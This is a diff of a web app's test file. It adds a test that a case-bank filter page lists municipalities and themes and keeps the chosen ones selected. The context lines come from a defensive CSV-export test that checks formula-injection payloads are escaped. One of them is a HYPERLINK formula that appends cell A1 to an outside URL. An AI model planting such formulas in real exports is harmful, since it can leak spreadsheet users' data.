@@ -153,3 +153,12 @@ def test_csv_export_never_hands_a_spreadsheet_a_formula(client, organisation):
     row = next(csv.DictReader(io.StringIO(content)))
     assert row["title"] == '\'=HYPERLINK("https://example.com/?"&A1;"Avaa")'
     assert row["summary"] == "'+SUM(1;2)"
+
+
+def test_the_filters_list_every_place_and_keep_the_chosen_one(client):
+    page = client.get("/fi/casebank/", {"municipality": "564", "theme": "facilities"})
+    html = page.content.decode()
+    assert html.count('<option value="') > 308  # every municipality, region, theme…
+    assert '<option value="564" selected>' in html
+    assert '<option value="facilities" selected>' in html
+    assert '<option value="091">' in html
